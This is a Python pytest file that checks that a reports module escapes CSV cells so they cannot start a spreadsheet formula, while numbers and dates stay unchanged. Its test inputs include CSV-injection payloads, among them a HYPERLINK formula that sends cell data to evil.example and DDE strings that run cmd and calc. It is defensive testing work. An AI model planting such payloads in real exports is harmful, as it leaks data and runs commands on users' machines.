"""FOCUS CSV cells never start a spreadsheet formula (OWASP CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from reports.csv_safe import neutralize
from reports.focus import csv_value


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_text_is_written_as_text(text: str) -> None:
    cell = csv_value(text)
    assert cell == "'" + text
    # Round trip through the csv module: the reader gets the quoted text back, one cell, never a formula.
    buf = io.StringIO()
    csv.writer(buf).writerow([cell, "x"])
    (row,) = list(csv.reader(io.StringIO(buf.getvalue())))
    assert row == ["'" + text, "x"] and not row[0].startswith(("=", "+", "-", "@"))


def test_plain_text_numbers_and_dates_are_unchanged() -> None:
    assert neutralize("search-ranker") == "search-ranker"
    assert neutralize("a=b") == "a=b"
    assert csv_value(Decimal("-1.500000000000")) == "-1.500000000000"
    assert csv_value(date(2026, 3, 2)) == "2026-03-02"
    assert csv_value(None) == ""
